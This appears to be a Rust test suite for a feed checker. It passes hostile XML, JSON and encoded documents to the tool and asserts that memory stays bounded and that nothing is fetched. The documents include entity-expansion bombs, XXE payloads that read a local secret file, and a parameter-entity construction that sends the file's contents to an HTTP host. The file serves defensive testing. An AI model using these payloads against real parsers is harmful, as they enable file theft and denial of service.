//! XML, JSON and encodings that nest, grow or refer to other files: read in little memory, and nothing is fetched.

use std::collections::BTreeMap;
use std::fs;
use std::io::ErrorKind;
use std::net::TcpListener;

use super::reliability::assert_attack_row;
use super::{MEMORY, output_and_peak};
use crate::{Project, json_messages, string_field};

/// Checks each document: it must give the expected finding, or any if the code is empty, and take little memory.
fn check_documents(name: &str, documents: Vec<(&str, Vec<u8>, &str)>) {
    let project = Project::new();
    let tried = documents.len();
    for (what, bytes, code) in documents {
        project.write_file("bomb.xml", &bytes);
        let args = ["check", "bomb.xml", "--message-format", "json", "--verbose"];
        let (exit, stdout, stderr, kib) = output_and_peak(&project, &args);
        let found: Vec<_> =
            json_messages(&stdout).iter().map(|m| string_field(m, "code").to_owned()).collect();
        let is_right = |c: &String| code.is_empty() || c == code;
        assert!(found.iter().any(is_right), "{what}: {found:?} {stderr}");
        assert!(exit == 0 || exit == 1, "{what}: {exit} {stderr}");
        assert!(kib < MEMORY, "{what}: {kib} KiB");
        println!("{what}: {kib} KiB for {} KiB, {found:?}", bytes.len() >> 10);
    }
    assert_attack_row(name, "", tried);
}

fn rss(inside: &str) -> String {
    format!("<rss version=\"2.0\"><channel>{inside}</channel></rss>")
}

const LARGE: usize = 512 << 10;
/// Smaller than `LARGE`, because a seed is cleaned, not only parsed.
const GROWING: usize = 64 << 10;

#[test]
#[cfg_attr(not(has_python3), ignore = "needs python3")]
fn hostile_xml_uses_bounded_memory_and_fetches_nothing() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let host = listener.local_addr().unwrap();
    let secret = tempfile::NamedTempFile::new().unwrap();
    fs::write(&secret, "secret").unwrap();
    let secret = secret.path().to_str().unwrap();

    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let laughs = format!("<!DOCTYPE x [<!ENTITY l0 \"lol\">{laughs}]>{}", rss("<title>&l9;</title>"));
    let entity = "e".repeat(LARGE / 4);
    let quadratic = format!("<!DOCTYPE x [<!ENTITY e \"{entity}\">]>{}", rss(&"&e;".repeat(LARGE / 8)));
    // Each reference is looked up in a long document type.
    let searched = |outside: &str| {
        let names: String = (0..LARGE / 64).map(|n| format!("<!ENTITY n{n} \"x\">")).collect();
        format!("<!DOCTYPE x {outside}[{names}]>{}", rss(&"&n99999;".repeat(LARGE / 32)))
    };
    let outside = |inner: &str| format!("<!DOCTYPE rss [{inner}]>{}", rss("<title>&x;</title>"));
    let prefixes: String = (0..250).map(|n| format!(" xmlns:p{n}='u{n}'")).collect();
    let deep_prefixes =
        format!("<rss version='2.0'>{}", format!("<a{prefixes}>").repeat(190)) + &"<b/>".repeat(LARGE / 16);
    let atom =
        |inside: &str| format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry>{inside}</entry></feed>");
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let utf32 = |text: &str| text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect::<Vec<_>>();

    let documents: Vec<(&str, Vec<u8>, &str)> = vec![
        ("billion laughs", laughs.into(), ""),
        ("quadratic blow-up", quadratic.into(), ""),
        ("references looked up in a document type", searched("").into(), "xml/not-well-formed"),
        ("the same with an external one", searched("SYSTEM 'x.dtd' ").into(), "xml/system-entity"),
        ("recursive entity", outside("<!ENTITY x \"&x;\">").into(), ""),
        ("external entity, file", outside(&format!("<!ENTITY x SYSTEM \"file://{secret}\">")).into(), "xml/system-entity"),
        ("external entity, http", outside(&format!("<!ENTITY x SYSTEM \"http://{host}/x\">")).into(), "xml/system-entity"),
        ("external entity, public", outside(&format!("<!ENTITY x PUBLIC \"p\" \"http://{host}/x\">")).into(), "xml/system-entity"),
        (
            "parameter entity",
            outside(&format!("<!ENTITY % p SYSTEM \"http://{host}/p\">%p;")).into(),
            "",
        ),
        (
            "parameter entities that send a file",
            outside(&format!(
                "<!ENTITY % f SYSTEM \"file://{secret}\"><!ENTITY % s \"<!ENTITY x SYSTEM 'http://{host}/?%f;'>\">%s;"
            ))
            .into(),
            "xml/system-entity",
        ),
        (
            "external document type",
            format!("<!DOCTYPE rss SYSTEM \"http://{host}/rss.dtd\">{}", rss("")).into(),
            "xml/system-entity",
        ),
        (
            "XInclude",
            rss(&format!("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://{host}/x' parse='text'/>")).into(),
            "",
        ),
        (
            "style sheet and schema",
            format!(
                "<?xml-stylesheet type='text/xsl' href='http://{host}/x.xsl'?><rss version='2.0' \
                 xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='a http://{host}/x.xsd'><channel/></rss>"
            )
            .into(),
            "",
        ),
        ("elements in elements", "<a>".repeat(LARGE / 3).into(), "xml/limit"),
        ("elements in an entry", atom(&"<content type='xhtml'><div>".repeat(50_000)).into(), "xml/limit"),
        ("elements in escaped HTML", rss(&format!("<item><description>{}</description></item>", "&lt;b>".repeat(LARGE / 6))).into(), "html/not-well-formed"),
        ("many elements", rss(&"<a/>".repeat(LARGE / 4)).into(), ""),
        ("many items", rss(&"<item/>".repeat(LARGE / 7)).into(), ""),
        ("many runs of text", rss(&"x<a/>".repeat(LARGE / 5)).into(), ""),
        ("a million attributes", format!("<rss{}>", (0..1_000_000).map(|n| format!(" a{n}=''")).collect::<String>()).into(), "xml/limit"),
        ("one attribute a million times", format!("<rss{}>", " a=''".repeat(1_000_000)).into(), "xml/not-well-formed"),
        ("prefixes in scope of each element", deep_prefixes.into(), ""),
        ("a huge name", format!("<{}>", "a".repeat(LARGE)).into(), ""),
        ("a huge attribute", format!("<rss version='{}'/>", "a".repeat(LARGE)).into(), ""),
        ("a huge comment", format!("<!--{}-->{}", "a".repeat(LARGE), rss("")).into(), ""),
        ("a huge text", rss(&format!("<title>{}</title>", "a ".repeat(LARGE / 2))).into(), ""),
        ("a huge number of references", rss(&format!("<title>{}</title>", "&#38;".repeat(LARGE / 5))).into(), ""),
        ("an endless tag", format!("<rss {}", "a".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("an endless comment", format!("<!--{}", "-".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("an endless CDATA section", format!("<rss><![CDATA[{}", "]".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("an endless document type", format!("<!DOCTYPE x [{}", "<!ENTITY".repeat(LARGE / 8)).into(), "xml/not-well-formed"),
        ("an endless instruction", format!("<?x {}", "?".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("a line of brackets", "<".repeat(LARGE).into(), "xml/not-well-formed"),
        ("UTF-16", utf16(&format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{}", rss(&"<a/>".repeat(LARGE / 8)))), ""),
        ("UTF-32", utf32(&format!("<?xml version=\"1.0\" encoding=\"UTF-32\"?>{}", rss(&"<a/>".repeat(LARGE / 16)))), ""),
        ("EBCDIC", [0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40].repeat(1 << 16), ""),
        ("declared EBCDIC", format!("<?xml version='1.0' encoding='IBM037'?>{}", rss("")).into(), "xml/encoding"),
        ("declared as UTF-16, but UTF-8", format!("<?xml version='1.0' encoding='UTF-16'?>{}", rss("")).into(), "xml/encoding"),
        ("declared UTF-7", format!("<?xml version='1.0' encoding='UTF-7'?>{}", rss("<title>+ADw-</title>")).into(), "xml/encoding"),
        ("subscriptions in subscriptions", format!("<opml version='2.0'><body>{}", "<outline text='a'>".repeat(LARGE / 18)).into(), "xml/limit"),
    ];
    check_documents("XML", documents);
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "nothing was fetched");
}

#[test]
#[cfg_attr(not(has_python3), ignore = "needs python3")]
fn hostile_json_uses_bounded_memory() {
    let feed = |inside: &str| {
        format!("{{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"a\",{inside}}}")
    };
    let documents: Vec<(&str, Vec<u8>, &str)> = vec![
        ("arrays in arrays", "[".repeat(LARGE).into(), "json/limit"),
        ("objects in objects", "{\"a\":".repeat(LARGE / 5).into(), "json/limit"),
        (
            "arrays in an item",
            feed(&format!("\"items\":[{{\"_x\":{}", "[".repeat(LARGE))).into(),
            "json/limit",
        ),
        ("many values", feed(&format!("\"items\":[{}1]", "1,".repeat(LARGE / 2))).into(), "json/type"),
        ("too many values", feed(&format!("\"items\":[{}1]", "1,".repeat(4_000_000))).into(), "json/limit"),
        (
            "many items",
            feed(&format!("\"items\":[{}{{}}]", "{},".repeat(LARGE / 16))).into(),
            "json/missing-key",
        ),
        (
            "one key many times",
            feed(&format!("{}\"items\":[]", "\"a\":1,".repeat(LARGE / 32))).into(),
            "json/duplicate-key",
        ),
        (
            "many keys",
            feed(&format!(
                "{}\"items\":[]",
                (0..LARGE / 64).map(|n| format!("\"a{n}\":1,")).collect::<String>()
            ))
            .into(),
            "json/unknown-key",
        ),
        ("a huge number", feed(&format!("\"items\":{}", "9".repeat(LARGE))).into(), "json/type"),
        ("a huge exponent", feed("\"items\":1e999999999999999999999").into(), "json/type"),
        (
            "a huge string",
            feed(&format!("\"items\":\"{}\"", "\\u0041".repeat(LARGE / 6))).into(),
            "json/type",
        ),
        (
            "lone surrogates",
            feed(&format!("\"items\":\"{}\"", "\\ud800".repeat(1000))).into(),
            "json/not-well-formed",
        ),
        (
            "an endless string",
            feed(&format!("\"items\":\"{}", "a".repeat(LARGE))).into(),
            "json/not-well-formed",
        ),
        ("a line of quotes", "[\"".repeat(LARGE / 2).into(), "json/limit"),
        ("comments", format!("{{{}", "/*".repeat(LARGE / 2)).into(), "json/not-well-formed"),
    ];
    check_documents("JSON", documents);
}

#[test]
#[cfg_attr(not(has_python3), ignore = "needs python3")]
fn encodings_that_grow_when_decoded_use_bounded_memory() {
    let head = "<!--1714521600000-->\n[A title](https://news.example/%)\n------\n\n<p>";
    let mut bodies: BTreeMap<&str, Vec<u8>> = BTreeMap::new();
    let bytes = |head: &str, body: &[u8]| [head.as_bytes(), &body.repeat(GROWING / body.len())].concat();
    let wide = |order: fn(u16) -> [u8; 2], body: &str| {
        let text = format!("\u{feff}{head}{}", body.repeat(GROWING / 2 / body.len().max(1)));
        text.encode_utf16().flat_map(order).collect::<Vec<_>>()
    };
    bodies.insert("invalid UTF-8", bytes(head, b"\xff"));
    bodies.insert("half characters", bytes(head, b"\xe4\xb8x"));
    bodies.insert("overlong forms", bytes(head, b"\xc0\xbcscript\xc0\xbe"));
    bodies.insert("Windows-1252", bytes(head, b"caf\xe9 \x80"));
    bodies.insert("GB18030", bytes(head, b"\x84\x31\xa4\x37"));
    bodies.insert("Shift_JIS", bytes(head, b"\x82\xa0\x83"));
    bodies.insert(
        "ISO-2022-JP",
        bytes(&head.replace("A title", "\u{1b}$B$\"\u{1b}(B"), b"\x1b$B\x1b(B\x1b(J\x1b$@"),
    );
    bodies.insert("EUC-KR", bytes(head, b"\xb0\xa1\xff"));
    bodies.insert("KOI8-R", bytes(head, b"\xcd\xc9\xd2 "));
    bodies.insert("UTF-16LE", wide(u16::to_le_bytes, "一"));
    bodies.insert("UTF-16BE", wide(u16::to_be_bytes, "<b>一"));
    bodies.insert(
        "UTF-16 with lone surrogates",
        [wide(u16::to_le_bytes, "x"), b"\x00\xd8".repeat(GROWING / 4)].concat(),
    );
    bodies.insert("references", bytes(head, b"&#x10FFFF;"));
    bodies.insert("short references", bytes(head, b"&nGt;"));
    bodies.insert("U+FDFA", bytes(head, "ﷺ".as_bytes()));
    let project = Project::new();
    for (number, (what, body)) in bodies.iter().enumerate() {
        let _ = fs::remove_dir_all(project.path("seeds"));
        let link = format!("{number}");
        let at = body.iter().position(|b| *b == b'%').unwrap();
        let body = [&body[..at], link.as_bytes(), &body[at + 1..]].concat();
        project.write_file("seeds/1.txt", &body);
        let (code, _, stderr, kib) = output_and_peak(&project, &["--no-catalog", "--message-format", "json"]);
        let skipped = json_messages(&stderr).iter().any(|m| string_field(m, "severity") == "error");
        assert!(code == 0 || code == 2 && skipped, "{what}: {code} {stderr}");
        // Bytes, text and cleaned HTML, each of which may be three times as large.
        let limit = MEMORY / 2 + 9 * body.len() as u64 / 1024;
        assert!(kib < limit, "{what}: {kib} KiB of {limit}");
        println!("{what}: {kib} KiB for {} KiB, exit {code}", body.len() >> 10);
        if code == 0 {
            let published: u64 = ["rss.xml", "atom.xml", "feed.json"]
                .iter()
                .map(|f| fs::metadata(project.path("feeds").join(f)).unwrap().len())
                .sum();
            assert!(published < 64 << 20, "{what}: {published} bytes");
        }
    }
    assert_attack_row("Encodings that grow", "", bodies.len());
}
